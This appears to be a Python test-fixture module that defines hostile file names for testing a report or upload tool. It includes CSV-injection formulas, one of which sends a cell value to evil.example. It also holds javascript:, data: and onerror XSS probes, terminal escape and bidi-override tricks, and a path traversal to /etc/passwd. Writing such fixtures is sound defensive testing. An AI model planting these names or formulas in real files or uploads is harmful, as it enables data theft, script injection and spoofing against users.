"""Hostile file names: formulas, script links, names of the batch's own files, escape sequences,
names too long for a file system."""

from __future__ import annotations

__all__ = ["DISK_NAMES", "FORMULA_STARTS", "UPLOAD_ONLY_NAMES", "emoji_name"]

#: What starts a spreadsheet formula (OWASP's CSV-injection rule also lists tab and CR).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def emoji_name(count: int, suffix: str = ".md") -> str:
    """``count`` emoji (4 bytes each in UTF-8) and a suffix: 100 of them is over 255 bytes."""
    return "\U0001f600" * count + suffix


#: (label, file name) pairs that can exist on a Linux file system (at most 255 bytes, no "/").
DISK_NAMES: tuple[tuple[str, str], ...] = (
    ("formula-hyperlink", '=HYPERLINK("http:__evil.example_?x="&B2,"Open").md'),
    ("formula-plus", "+SUM(1,2)*cmd.md"),
    ("formula-minus", "-2+3+cmd.md"),
    ("formula-at", "@SUM(1+1)*cmd.md"),
    ("formula-tab", "\t=1+1.md"),
    ("javascript-link", "javascript:alert(document.domain).md"),
    ("data-link", "data:text_html,<script>alert(1)<_script>.md"),
    ("cohort-collision", "cohort.md"),
    ("errors-collision", "errors.md"),
    ("heatmap-collision", "cohort-heatmap.md"),
    ("escape-sequences", "report-\x1b[2J\x1b]0;pwned\x07-\x1b[31mred.md"),
    ("c1-csi", "report-\x9b31mred.md"),
    ("newline", "two\nlines.md"),
    ("bidi-override", "report-\u202egnp.md"),
    ("html-markup", '<img src=x onerror=alert(1)>.md'),
    ("emoji-60", emoji_name(60)),
)

#: Names only an upload can carry: 100 emoji is 403 bytes, over the 255-byte limit of a file name.
UPLOAD_ONLY_NAMES: tuple[tuple[str, str], ...] = (
    ("emoji-100", emoji_name(100)),
    ("long-400-bytes", "r" * 397 + ".md"),
    ("path-traversal", "../../etc/passwd.md"),
    ("nul-byte", "report\x00.md"),
)
